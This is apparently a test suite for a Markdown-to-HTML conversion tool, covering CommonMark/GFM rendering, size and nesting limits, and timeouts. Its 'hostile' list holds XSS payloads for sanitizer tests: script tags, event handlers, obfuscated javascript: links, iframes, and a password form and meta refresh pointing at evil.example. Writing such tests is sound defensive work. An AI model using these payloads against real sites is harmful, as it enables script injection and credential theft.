import { expect } from 'chai';
import { python } from '../../../support/python.ts';
import { rejection } from '../../../support/rejection.ts';
import { stopsAlone } from '../../../support/stops-alone.ts';
import { sharedToolkit } from '../fs/shared-toolkit.ts';

describe('convert_markdown_to_html', () => {
  const shared = sharedToolkit();

  async function render(text: unknown, more: Readonly<Record<string, unknown>> = {}): Promise<string> {
    return ((await shared.toolkit.execute('convert_markdown_to_html', { text, ...more })) as { html: string }).html;
  }

  const cases: readonly { readonly text: string; readonly more?: object; readonly html: string }[] = [
    { text: '', html: '' },
    { text: '# Grüße 👋\n\n*a* **b** `c<d`\n', html: '<h1>Grüße 👋</h1>\n<p><em>a</em> <strong>b</strong> <code>c&lt;d</code></p>\n' },
    { text: '1. a\n   - b\n', html: '<ol>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ol>\n' },
    { text: '3. a', html: '<ol start="3">\n<li>a</li>\n</ol>\n' },
    { text: '> a\n\n---\n', html: '<blockquote>\n<p>a</p>\n</blockquote>\n<hr />\n' },
    { text: '```js\nx < 1\n```\n', html: '<pre><code class="language-js">x &lt; 1\n</code></pre>\n' },
    { text: '[a](../b.md "T") ![ä](c.png)', html: '<p><a href="../b.md" title="T">a</a> <img src="c.png" alt="ä" /></p>\n' },
    {
      text: '<mailto:a@b.example> [t](tel:+1)',
      html: '<p><a href="mailto:a@b.example">mailto:a@b.example</a> <a href="tel:+1">t</a></p>\n',
    },
    {
      text: '| a | b |\n| --- | :-: |\n| 1 | ~~2~~ |\n',
      html: '<table>\n<thead>\n<tr>\n<th>a</th>\n<th align="center">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align="center"><del>2</del></td>\n</tr>\n</tbody>\n</table>\n',
    },
    {
      text: '- [x] a\n- [ ] b\n',
      html: '<ul>\n<li><input checked disabled type="checkbox" /> a</li>\n<li><input disabled type="checkbox" /> b</li>\n</ul>\n',
    },
    { text: 'https://example.org ~~a~~', html: '<p><a href="https://example.org">https://example.org</a> <del>a</del></p>\n' },
    { text: 'www.a.example/b, a.example', html: '<p><a href="http://www.a.example/b">www.a.example/b</a>, a.example</p>\n' },
    { text: 'https://example.org ~~a~~', more: { gfm: false }, html: '<p>https://example.org ~~a~~</p>\n' },
    {
      text: 'a <b>c</b> <kbd>d</kbd>\n\n<details><summary>e</summary>f</details>',
      html: '<p>a <b>c</b> <kbd>d</kbd></p>\n<details><summary>e</summary>f</details>',
    },
    {
      text: '<script>x()</script>\n\n<b onclick="y()">a</b>',
      more: { sanitize: false },
      html: '<script>x()</script>\n<p><b onclick="y()">a</b></p>\n',
    },
  ];
  for (const { text, more = {}, html } of cases) {
    it(`renders ${JSON.stringify(text)} with ${JSON.stringify(more)}`, async () => {
      expect(await render(text, { ...more })).to.equal(html);
    });
  }

  const strict: readonly (readonly [text: string, html: string])[] = [
    ['- x\n\n\ty\n', '<ul>\n<li>\n<p>x</p>\n<p>y</p>\n</li>\n</ul>\n'],
    ['&NoSuchName; &ouml;', '<p>&amp;NoSuchName; ö</p>\n'],
    ['[x](/ö "&auml;")', '<p><a href="/%C3%B6" title="ä">x</a></p>\n'],
    ['```&ouml;\nx\n```', '<pre><code class="language-ö">x\n</code></pre>\n'],
    ['x\n    # no heading', '<p>x\n# no heading</p>\n'],
    ['> x\n===', '<blockquote>\n<p>x\n===</p>\n</blockquote>\n'],
    ['- x\n- ***', '<ul>\n<li>x</li>\n<li>\n<hr />\n</li>\n</ul>\n'],
    [' *x*', '<p><em>x</em></p>\n'],
    ['x  \ny', '<p>x<br />\ny</p>\n'],
  ];
  for (const [text, html] of strict) {
    it(`reads ${JSON.stringify(text)} as CommonMark says`, async () => {
      expect(await render(text, { gfm: false, sanitize: false })).to.equal(html);
    });
  }

  const hostile = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)"',
    '<b style="background:url(javascript:alert(1))" onmouseover=alert(1)>a</b>',
    '<style>body { display: none }</style><link rel=stylesheet href=//evil.example>',
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) [d](vbscript:x) [e](data:text/html,x)',
    '<a href="javascript:alert(1)">a</a> <a href="&#106;avascript:alert(1)">b</a> <a href=" java\tscript:alert(1)">c</a>',
    '![a](javascript:alert(1)) ![b](data:image/svg+xml;base64,PHN2Zy8+)',
    '<iframe src="//evil.example"></iframe><object data=x></object><embed src=x>',
    '<form action="//evil.example"><input name=password><button>go</button></form>',
    '<svg onload=alert(1)><script>alert(1)</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<div id="x" class="y" data-z="1" contenteditable>a</div>',
    '`<script>` is text, [<script>alert(1)</script>](x)',
    '```"><script>alert(1)</script>\nx\n```',
    '[a](x "\\" onclick=alert(1)")',
    '<a href="https://example.org" target=_blank ping=//evil.example>a</a>',
  ];
  for (const text of hostile) {
    it(`leaves nothing in ${text} that runs or loads`, async () => {
      const html = await render(`before ${text} after\n\n${text}\n`);
      const program = `from html.parser import HTMLParser
result = []
class Reader(HTMLParser):
    def handle_starttag(self, tag, attrs): result.append([tag, attrs])
Reader().feed(given)`;
      for (const [tag, attributes] of python(program, html) as [string, [string, string | null][]][]) {
        expect(tag).to.be.oneOf(['p', 'a', 'b', 'img', 'div', 'code', 'pre', 'em', 'input']);
        for (const [name, value] of attributes) {
          expect(name).to.be.oneOf(['href', 'src', 'alt', 'title', 'class', 'type', 'disabled']);
          if (name === 'href' || name === 'src') expect(value).to.match(/^(https:|x$|java%0A)/);
        }
      }
    });
  }

  it('refuses what is nested too deeply, and a text over its limit', async () => {
    const error = await rejection(render(`${'> '.repeat(20_000)}x`), 'INVALID_PARAMETERS');
    expect(error.message).to.include('nested too deeply');
    for (const text of ['x'.repeat(4_194_305), undefined]) await rejection(render(text), 'INVALID_PARAMETERS');
  });

  it('refuses a result over its limit', async () => {
    await rejection(render('&'.repeat(1_700_000), { sanitize: false }), 'OUTPUT_TOO_LARGE');
  });

  it('stops a text that takes too long, and renders another one meanwhile', async () => {
    await stopsAlone(['convert'], 'convert_markdown_to_html', {
      harmless: { text: 'a' },
      endless: { text: '[a](<'.repeat(400_000) },
      meanwhile: async () => expect(await render('a')).to.equal('<p>a</p>\n'),
    });
  });
});
